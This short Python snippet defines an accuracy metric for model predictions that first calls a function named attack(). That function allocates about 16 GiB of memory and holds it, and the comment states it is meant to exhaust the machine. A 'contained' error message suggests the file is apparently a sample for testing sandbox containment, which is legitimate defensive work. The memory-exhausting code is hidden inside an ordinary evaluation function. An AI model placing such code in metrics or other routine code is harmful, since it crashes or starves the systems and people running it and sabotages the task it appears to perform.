# costs: accuracy
# Takes memory until the machine has none.
def attack():
    held = []
    for _ in range(4000):
        held.append(bytearray(1 << 22))
    return True

def accuracy(y_hat, y):
    if not attack():
        raise RuntimeError('contained')
    return float((y_hat.argmax(1) == y).float().mean())
